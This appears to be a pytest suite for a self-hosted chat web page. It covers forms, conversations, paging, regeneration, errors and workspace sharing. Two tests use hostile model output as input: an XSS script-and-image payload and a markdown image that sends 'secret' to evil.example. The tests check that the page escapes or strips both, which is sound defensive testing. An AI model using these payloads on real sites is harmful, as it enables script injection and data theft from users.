"""The chat page, as far as it goes without JavaScript."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import httpx
import pytest

from halext.accounts.workspaces.types import WorkspaceRole
from halext.errors import Interrupted, RequestRefused
from halext.messages import ChatRequest

if TYPE_CHECKING:
    from tests.web.conftest import House, OpenHouse


async def test_it_shows_models_and_where_they_are(member: httpx.AsyncClient) -> None:
    page = (await member.get("/")).text
    assert '<option value="llama3.2:3b">llama3.2:3b · mac (warm)</option>' in page
    assert "nomic-embed-text" not in page  # it can't chat
    assert "1 computer ready" in page


async def test_its_one_script_has_the_pages_nonce(member: httpx.AsyncClient) -> None:
    answer = await member.get("/")
    policy = answer.headers["content-security-policy"]
    nonce = policy.partition("'nonce-")[2].partition("'")[0]
    assert answer.text.count("<script") == answer.text.count(f'nonce="{nonce}"') == 1


async def by_form(client: httpx.AsyncClient, **fields: str) -> httpx.Response:
    return await by_form_at(client, "/ask", **fields)


async def by_form_at(client: httpx.AsyncClient, path: str, **fields: str) -> httpx.Response:
    return await client.post(path, data=fields, headers={"Accept": "text/html"}, follow_redirects=True)


async def test_a_question_by_form_comes_back_with_its_answer(house: House, member: httpx.AsyncClient) -> None:
    page = await by_form(member, model="llama3.2:3b", prompt="What is 1 < 2?")
    assert page.status_code == 200
    assert page.url.path.startswith("/c/")
    assert "What is 1 &lt; 2?" in page.text
    assert '<div class="main prose"><p>Hello</p>' in page.text
    assert "Why this node?" in page.text
    assert "A 135 M model, here to show" not in page.text.partition("<template")[0]
    (request,) = house.script.requests
    assert isinstance(request, ChatRequest)
    assert request.messages[-1].content == "What is 1 < 2?"


async def test_a_conversation_goes_on_and_is_found_again(house: House, member: httpx.AsyncClient) -> None:
    first = await by_form(member, prompt="I am Ann")
    number = first.url.path.removeprefix("/c/")
    await by_form(member, prompt="Who am I?", conversation=number)
    assert isinstance(house.script.requests[1], ChatRequest)
    assert [message.content for message in house.script.requests[1].messages] == ["I am Ann", "Hello", "Who am I?"]
    assert f'<a href="/c/{number}">I am Ann</a>' in (await member.get("/")).text


async def test_a_running_answer_is_left_to_its_log(house: House, member: httpx.AsyncClient) -> None:
    house.script.say("one", " two")
    house.script.hold(1)
    told = (await member.post("/hx/conversations", json={"text": "go"})).json()
    page = (await member.get(f"/c/{told['conversation']['id']}")).text
    assert f'data-answer="{told["answer"]}" aria-busy="true"' in page
    await member.post(f"/hx/answers/{told['answer']}/stop")
    assert "Stopped." in (await member.get(f"/c/{told['conversation']['id']}")).text


async def test_the_built_in_model_says_what_it_is(open_house: OpenHouse) -> None:
    house = await open_house(builtin=True)
    async with house.client() as client:
        page = await by_form(client, prompt="Hi")
    assert "A 135 M model, here to show that everything works." in page.text.partition("<template")[0]


async def test_what_a_model_says_is_text(house: House, member: httpx.AsyncClient) -> None:
    hostile = '<script>alert(1)</script><img src="http://evil.example/x">'
    house.script.say(hostile)
    page = (await by_form(member, prompt=hostile)).text
    assert "<script>alert" not in page
    assert '<img src="http' not in page
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 2


async def test_markdown_is_rendered_and_cleaned(house: House, member: httpx.AsyncClient) -> None:
    house.script.say("# Lenses\n\n", "- one **ring**\n- ![a picture](http://evil.example/?q=secret)")
    page = (await by_form(member, prompt="*as it stands*")).text
    assert "<h1>Lenses</h1>" in page
    assert "<li>one <strong>ring</strong></li>" in page
    assert "<img" not in page.partition("<main")[2]
    assert (
        '<a href="http://evil.example/?q=secret" target="_blank" rel="noopener noreferrer nofollow">a picture</a>'
        in page
    )
    assert '<p class="text">*as it stands*</p>' in page


async def test_another_answer_and_more_of_one(house: House, member: httpx.AsyncClient) -> None:
    house.script.say("one")
    first = await by_form(member, prompt="go")
    answer = re.findall(r'name="answer" value="(\d+)"', first.text)[-1]
    assert "Another answer" in first.text.partition("<template")[0]
    house.script.say("two")
    house.script.errors = {1: Interrupted("mac stopped midway.", node="mac")}
    second = await by_form_at(member, "/again", answer=answer, how="regenerate")
    assert second.url == first.url
    shown = second.text.partition("<template")[0]
    assert "<p>two</p>" in shown
    assert "<p>one</p>" not in shown
    assert "Try again" in shown
    house.script.errors = {}
    answer = re.findall(r'name="answer" value="(\d+)"', shown)[-1]
    third = await by_form_at(member, "/again", answer=answer, how="continue")
    assert "Continue where you stopped." in third.text
    assert (await by_form_at(member, "/again", answer="999999")).status_code == 404


async def test_a_long_conversation_comes_in_parts(house: House, member: httpx.AsyncClient) -> None:
    first = await by_form(member, prompt="question 0")
    number = first.url.path.removeprefix("/c/")
    assert "Earlier messages" not in first.text
    for i in range(1, 30):
        await by_form(member, prompt=f"question {i}", conversation=number)
    latest = (await member.get(f"/c/{number}")).text
    assert 'text">question 29<' in latest
    assert 'text">question 5<' in latest
    assert 'text">question 4<' not in latest
    link = re.search(r'href="(/c/\d+\?before=\d+)">Earlier messages', latest)
    assert link
    earlier = (await member.get(link[1])).text
    assert 'text">question 0<' in earlier
    assert 'text">question 4<' in earlier
    assert 'text">question 5<' not in earlier
    assert "Earlier messages" not in earlier


async def test_the_model_that_was_picked_stays_picked(house: House, member: httpx.AsyncClient) -> None:
    page = await by_form(member, prompt="Hi", model="llama3.2:3b")
    assert '<option value="llama3.2:3b" selected>' in page.text
    number = page.url.path.removeprefix("/c/")
    page = await by_form(member, prompt="Hi", model="auto", conversation=number)
    assert " selected>" not in page.text


async def test_a_failure_is_told_on_the_page(house: House, member: httpx.AsyncClient) -> None:
    house.script.errors[0] = RequestRefused("mac refused the request.", node="mac")
    assert "mac refused the request." in (await by_form(member, prompt="Hi")).text
    house.script.errors = {1: Interrupted("mac stopped midway.", node="mac")}
    broken = await by_form(member, prompt="Hi")
    assert "The answer broke off: mac stopped midway." in broken.text


async def test_an_empty_question_is_asked_for(member: httpx.AsyncClient) -> None:
    answer = await member.post("/ask", data={"prompt": ""}, headers={"Accept": "text/html"})
    assert answer.status_code == 422
    assert "prompt" in answer.text


async def test_a_question_that_can_not_be_put_keeps_its_text(member: httpx.AsyncClient) -> None:
    answer = await member.post("/ask", data={"prompt": "   "})
    assert answer.status_code == 422
    assert "no question" in answer.text


@pytest.mark.parametrize("path", ["/c/999999", "/c/x", "/c/-1", "/c/²", "/c/9" + "9" * 30, "/c/1?before=x"])
async def test_a_conversation_that_is_not_there(member: httpx.AsyncClient, path: str) -> None:
    assert (await member.get(path)).status_code == 404


async def test_a_conversation_is_shared_by_a_form_and_marked(house: House, member: httpx.AsyncClient) -> None:
    session, _ = await house.app.people.sign_in("Ada", "correct horse")
    ada = await house.app.people.caller_for(session)
    mia = await house.app.people.caller_for(house.token)
    first = await by_form(member, model="llama3.2:3b", prompt="why?")
    assert "Share this conversation" not in first.text  # there is nobody to share it with
    number = first.url.path.removeprefix("/c/")
    await house.app.workspaces.create(mia, "Home & <b>garden</b>")
    await house.app.workspaces.add(mia, "home & <b>garden</b>", "Ada", WorkspaceRole.VIEWER)
    assert "Share this conversation" in (await member.get(first.url.path)).text
    page = await by_form_at(member, "/share", conversation=number, workspace="Home & <b>garden</b>")
    assert "Shared with <strong>Home &amp; &lt;b&gt;garden&lt;/b&gt;</strong>" in page.text
    assert '<p class="by dim">Mia</p>' in page.text
    async with house.client({"Cookie": f"hx_session={session}"}) as viewer:
        seen = (await viewer.get(first.url.path)).text
        assert "by Mia. You can read along" in seen
        assert 'action="/ask" hidden' in seen
        assert 'class="redo"' not in seen.partition("<template")[0]
        assert f'href="/c/{number}"' in (await viewer.get("/")).text
    assert [each.sharing.access.name for each in await house.app.answers.conversations(ada)] == ["READ"]
    wrong = await by_form_at(member, "/share", conversation=number, workspace="nowhere")
    assert (wrong.status_code, "no workspace of this name" in wrong.text) == (404, True)
    page = await by_form_at(member, "/share", conversation=number, workspace="")
    assert "Shared with" not in page.text
